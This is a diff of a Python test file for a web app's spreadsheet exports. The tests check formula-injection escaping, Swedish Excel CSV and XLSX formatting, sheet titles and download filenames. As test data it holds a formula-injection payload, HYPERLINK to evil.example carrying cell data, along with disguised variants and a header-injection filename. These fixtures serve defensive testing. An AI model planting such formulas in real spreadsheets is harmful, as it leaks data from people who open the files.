@@ -1,9 +1,10 @@
-"""Spreadsheets the product writes never carry a live formula (issue 8, kind 4b).
+"""Spreadsheets the product writes never carry a live formula (issue 8, kind 4b), in Swedish Excel's dialect (issue 9).
 
 OWASP's CSV-injection rule: a cell beginning with = + - @ tab or CR is
-written with a single quote in front. One module writes every spreadsheet
-(app/spreadsheets.py); the last tests fail if another module could write one
-around it.
+written with a single quote in front. Every CSV is semicolon-separated with
+a decimal comma; XLSX holds native numbers with number formats, and text
+stored as strings. One module writes every spreadsheet (app/spreadsheets.py);
+the AST tests fail if another module could write one around it.
 """
 
 from __future__ import annotations
@@ -11,20 +12,28 @@ from __future__ import annotations
 import ast
 import csv
 import io
+import math
+import re
 import unicodedata
-from datetime import date, timedelta
+import zipfile
+from datetime import date, datetime, timedelta
+from decimal import Decimal
 from urllib.parse import urlsplit
 
 import pytest
 from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
+from openpyxl import load_workbook
 from sqlalchemy import select
 
 from app.accounts.models import Role
 from app.campaigns.services import create_campaign
 from app.db import db_session
 from app.organisation.models import Programme, Provider
-from app.spreadsheets import csv_text, safe_cell
+from app.spreadsheets import (
+    COMMA_SEPARATED, XLSX_MIMETYPE, Column, Sheet, content_disposition, csv_response, csv_text, number_text,
+    safe_cell, sheet_titles, xlsx_bytes, xlsx_response,
+)
 from app.surveys.services import load_builtin
 
 from .conftest import ROOT, csrf_token_from, login, stockholm_today
@@ -34,9 +43,9 @@ ISSUE_EXAMPLE = '=HYPERLINK("http://evil.example/?d="&A2,"Öppna")'
 
 
 def read_back(text: str) -> list[list[str]]:
-    """What a CSV reader sees: the file as the browser saved it, BOM and all."""
+    """What a CSV reader sees of a Swedish Excel file (";" between cells): the file as the browser saved it, BOM and all."""
     assert text.startswith("\ufeff")
-    return list(csv.reader(io.StringIO(text[1:], newline="")))
+    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
 
 
 @pytest.mark.parametrize("typed, written", [
@@ -72,7 +81,7 @@ def test_a_cell_that_could_start_a_formula_gets_a_quote(typed, written):
 
 
 def test_numbers_dates_and_nothing():
-    assert read_back(csv_text([[-5, 2.5, date(2026, 11, 30), None]])) == [["-5", "2.5", "2026-11-30", ""]]
+    assert read_back(csv_text([[-5, 2.5, date(2026, 11, 30), None]])) == [["-5", "2,5", "2026-11-30", ""]]
     with pytest.raises(TypeError):
         safe_cell(True)
     with pytest.raises(TypeError):
@@ -249,7 +258,199 @@ def test_only_app_spreadsheets_writes_spreadsheets():
     assert spreadsheet_writers(shared.read_text(encoding="utf-8"))  # the shared module is seen by the check
 
 
+# --- CSV for Swedish Excel (issue 9) ------------------------------------------------
+
+def test_a_small_table_byte_for_byte():
+    rows = [
+        ["Leverantör", "NKI", "n", "Svarsfrekvens"],
+        ["Nordljus AB", 4.95, 12, Decimal("0.314")],
+        ["Bro; Coachning", "..", 4, None],
+        ['=1+1 "x"', 5.0, -3, 1e-05],
+    ]
+    # By hand: BOM EF BB BF; ";" between cells; text quoted, '"' doubled, the formula
+    # given a "'"; numbers bare with a decimal comma, no exponent (1e-05 -> 0,00001);
+    # None an empty field; CR LF after every line; ö is C3 B6 in UTF-8.
+    expected = (
+        b'\xef\xbb\xbf'
+        b'"Leverant\xc3\xb6r";"NKI";"n";"Svarsfrekvens"\r\n'
+        b'"Nordljus AB";4,95;12;0,314\r\n'
+        b'"Bro; Coachning";"..";4;\r\n'
+        b'"\'=1+1 ""x""";5,0;-3;0,00001\r\n'
+    )
+    assert csv_text(rows).encode("utf-8") == expected
+
 
 def test_every_text_field_is_quoted_so_a_separator_inside_never_splits_it():
     # Swedish Excel splits on ";": inside quotes it does not.
-    assert csv_text([["Evil AB;x", 5, "a"]]) == '\ufeff"Evil AB;x",5,"a"\r\n'
+    assert csv_text([["Evil AB;x", 5, "a"]]) == '\ufeff"Evil AB;x";5;"a"\r\n'
+    # The comma-separated dialect, for a reader that wants it.
+    assert csv_text([["Evil AB,x", 4.95, 5]], COMMA_SEPARATED) == '\ufeff"Evil AB,x",4.95,5\r\n'
+
+
+@pytest.mark.parametrize("number, written", [
+    (4.95, "4,95"), (5.0, "5,0"), (-0.5, "-0,5"), (1e20, "100000000000000000000"), (1e-05, "0,00001"),
+    (Decimal("1E+1"), "10"), (Decimal("4.950"), "4,950"), (0, "0"), (-12, "-12"),
+])
+def test_numbers_have_a_decimal_comma_and_no_exponent(number, written):
+    assert number_text(number, ",") == written
+
+
+@pytest.mark.parametrize("number", [math.nan, math.inf, -math.inf, Decimal("NaN"), Decimal("Infinity")])
+def test_no_spreadsheet_holds_nan_or_infinity(number):
+    with pytest.raises(ValueError):
+        csv_text([[number]])
+    with pytest.raises(ValueError):
+        xlsx_bytes([Sheet("s", [Column("x", "decimal2")], [[number]])])
+
+
+def test_download_names_keep_swedish_letters_beside_an_ascii_one():
+    # Ä is U+00C4 = C3 84 in UTF-8, ö U+00F6 = C3 B6, a space %20 (RFC 5987 percent-encoding).
+    assert content_disposition("Resultat Älta ö.xlsx") == \
+        "attachment; filename=\"Resultat Alta o.xlsx\"; filename*=UTF-8''Resultat%20%C3%84lta%20%C3%B6.xlsx"
+    assert content_disposition('a"b%;c.csv') == "attachment; filename=\"a_b__c.csv\"; filename*=UTF-8''a%22b%25%3Bc.csv"
+    for unsafe in ("", "../x.csv", "a\\b.csv", "a\r\nSet-Cookie: x.csv", "a\x00.csv"):
+        with pytest.raises(ValueError):
+            content_disposition(unsafe)
+    response = csv_response("Svar för Bro.csv", [["a", 1]])
+    assert response.headers["Content-Disposition"] == \
+        "attachment; filename=\"Svar for Bro.csv\"; filename*=UTF-8''Svar%20f%C3%B6r%20Bro.csv"
+
+
+# --- XLSX (issue 9) -----------------------------------------------------------------
+
+def _workbook(data: bytes):
+    return load_workbook(io.BytesIO(data))
+
+
+def _sheet_xml(data: bytes) -> list[str]:
+    """The raw XML of every worksheet in the file."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return [archive.read(name).decode("utf-8") for name in sorted(archive.namelist())
+                if name.startswith("xl/worksheets/sheet")]
+
+
+SUMMARY = Sheet(
+    title="Tabell 1",
+    columns=[Column("Leverantör"), Column("NKI", "decimal1"), Column("NKI, två decimaler", "decimal2"),
+             Column("n", "integer"), Column("Svarsfrekvens", "percent"), Column("Andel positiva", "percent1"),
+             Column("Avslutad", "date")],
+    rows=[
+        ["Nordljus AB", 4.95, 4.95, 12, 0.31, 0.314, date(2026, 11, 30)],
+        ["Bro Coachning", "..", "..", "..", Decimal("0.25"), "..", None],
+        ["Ångström", "missing", None, Decimal("7"), 1, 0.0, date(2027, 1, 15)],
+    ],
+    notes=["Figures from fewer than 5 answers are not shown (..)."],
+)
+
+
+def test_numbers_are_native_numbers_with_swedish_showable_formats():
+    sheet = _workbook(xlsx_bytes([SUMMARY]))["Tabell 1"]
+    nordljus = [cell for cell in sheet[2]]
+    assert [cell.value for cell in nordljus[:6]] == ["Nordljus AB", 4.95, 4.95, 12, 0.31, 0.314]
+    assert [cell.data_type for cell in nordljus] == ["s", "n", "n", "n", "n", "n", "d"]
+    assert isinstance(nordljus[3].value, int) and isinstance(nordljus[1].value, float)
+    # Locale-independent codes: Swedish Excel shows 5,0 / 4,95 / 12 / 31 % / 31,4 % / 2026-11-30.
+    assert [cell.number_format for cell in nordljus[1:]] == ["0.0", "0.00", "0", "0 %", "0.0 %", "yyyy-mm-dd"]
+    # A date comes back as a date (openpyxl reads every date cell as a datetime at midnight).
+    assert nordljus[6].is_date and nordljus[6].value == datetime(2026, 11, 30)
+    # A Decimal is a number too: 0.25 as a float, 7 as an int in an integer column.
+    assert sheet["E3"].value == 0.25 and sheet["D4"].value == 7 and isinstance(sheet["D4"].value, int)
+
+
+def test_a_suppressed_figure_stays_text():
+    sheet = _workbook(xlsx_bytes([SUMMARY]))["Tabell 1"]
+    for coordinate, shown in [("B3", ".."), ("C3", ".."), ("D3", ".."), ("F3", ".."), ("B4", "missing")]:
+        assert (sheet[coordinate].value, sheet[coordinate].data_type) == (shown, "s"), coordinate
+    assert sheet["G3"].value is None and sheet["C4"].value is None
+
+
+def test_header_bold_and_frozen_widths_reasonable_notes_below():
+    sheet = _workbook(xlsx_bytes([SUMMARY]))["Tabell 1"]
+    assert [cell.value for cell in sheet[1]] == [column.heading for column in SUMMARY.columns]
+    assert all(cell.font.b for cell in sheet[1]) and not sheet["A2"].font.b
+    assert sheet.freeze_panes == "A2"
+    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFG"}
+    # "NKI, två decimaler" is 18 characters: 18 x 1.1 (bold) + 2 = 21.8; "n" (1.1 + 2) rises to the minimum 6.
+    assert widths["C"] == pytest.approx(21.8) and widths["D"] == 6
+    assert all(6 <= width <= 60 for width in widths.values())
+    # Three rows under the header, an empty row, then the note in column A.
+    assert sheet.max_row == 6 and [cell.value for cell in sheet[5]] == [None] * 7
+    assert sheet["A6"].value == "Figures from fewer than 5 answers are not shown (..)."
+
+
+FORMULA_CELLS = ["=1+1", '\uff1dHYPERLINK("http://evil.example/?d="&A2,"Öppna")', "@SUM(A1)", "-2+3",
+                 ISSUE_EXAMPLE, "+46 70 123 45 67", "Evil AB;=1+1", "\u200b=1+1", "\t=1+1"]
+
+
+def test_formula_leading_text_is_a_plain_string_in_the_xml():
+    sheet = Sheet("Formler", [Column("=HEADING()"), Column("n", "integer")],
+                  [[text, ".."] for text in FORMULA_CELLS] + [["#N/A", 1]], notes=["=NOTE()"])
+    data = xlsx_bytes([sheet])
+    read = _workbook(data)["Formler"]
+    assert read["A1"].value == "'=HEADING()"
+    for row, typed in enumerate(FORMULA_CELLS, 2):
+        cell = read.cell(row, 1)
+        assert (cell.value, cell.data_type) == ("'" + typed, "s"), typed
+    # Text that looks like an error value stays text, not Excel's #N/A.
+    assert (read.cell(len(FORMULA_CELLS) + 2, 1).value, read.cell(len(FORMULA_CELLS) + 2, 1).data_type) == ("#N/A", "s")
+    assert read.cell(read.max_row, 1).value == "'=NOTE()"
+    [xml] = _sheet_xml(data)
+    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
+    text_cells = re.findall(r'<c r="A\d+"[^>]*>', xml)
+    assert len(text_cells) == 1 + len(FORMULA_CELLS) + 1 + 1  # header, formulas, #N/A, note
+    assert all('t="inlineStr"' in cell for cell in text_cells), text_cells
+    assert "<is><t>'=1+1</t></is>" in xml
+
+
+def test_sheet_titles_follow_excels_rules_and_are_unique():
+    titles = ["Resultat [2026]", "a" * 40, "resultat [2026]", "", "History", "'Bro'", "Q1: NKI/n?", "b" * 40, "B" * 40]
+    expected = [
+        "Resultat 2026",        # [ ] become spaces, runs of space one, ends trimmed
+        "a" * 31,               # cut to 31
+        "resultat 2026 (2)",    # the first one's name in another case
+        "Sheet 4",              # empty: its position
+        "History 5",            # Excel reserves "History"
+        "Bro",                  # no apostrophe first or last
+        "Q1 NKI n",             # : / ? become spaces
+        "b" * 31,
+        "B" * 27 + " (2)",      # 27 + 4 = 31
+    ]
+    assert sheet_titles(titles) == expected
+    data = xlsx_bytes([Sheet(title, [Column("x")], [["y"]]) for title in titles])
+    assert _workbook(data).sheetnames == expected
+
+
+@pytest.mark.parametrize("column, value, error", [
+    (Column("x"), 5, TypeError),                          # a number in a text column
+    (Column("x", "integer"), 4.5, ValueError),            # a fraction shown as 5
+    (Column("x", "integer"), True, TypeError),
+    (Column("x", "decimal1"), date(2026, 1, 1), TypeError),
+    (Column("x", "date"), datetime(2026, 1, 1, 12), TypeError),  # a moment: convert to the municipality's day first
+    (Column("x", "date"), 45000, TypeError),
+])
+def test_a_value_of_the_wrong_kind_is_refused(column, value, error):
+    with pytest.raises(error):
+        xlsx_bytes([Sheet("s", [column], [[value]])])
+
+
+def test_malformed_workbooks_are_refused():
+    with pytest.raises(ValueError):
+        Column("x", "percentage")
+    with pytest.raises(ValueError):
+        xlsx_bytes([])
+    with pytest.raises(ValueError):
+        xlsx_bytes([Sheet("s", [Column("x")], [["a", "b"]])])  # more cells than columns
+
+
+def test_text_xml_cannot_hold_is_replaced_not_fatal():
+    data = xlsx_bytes([Sheet("s", [Column("Leverantör")], [["Nord\x01ljus"]])])
+    assert _workbook(data)["s"]["A2"].value == "Nord\ufffdljus"
+
+
+def test_xlsx_download():
+    response = xlsx_response("Resultat Älta.xlsx", [SUMMARY])
+    assert response.mimetype == XLSX_MIMETYPE == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.headers["Content-Disposition"] == \
+        "attachment; filename=\"Resultat Alta.xlsx\"; filename*=UTF-8''Resultat%20%C3%84lta.xlsx"
+    assert _workbook(response.get_data())["Tabell 1"]["B2"].value == 4.95
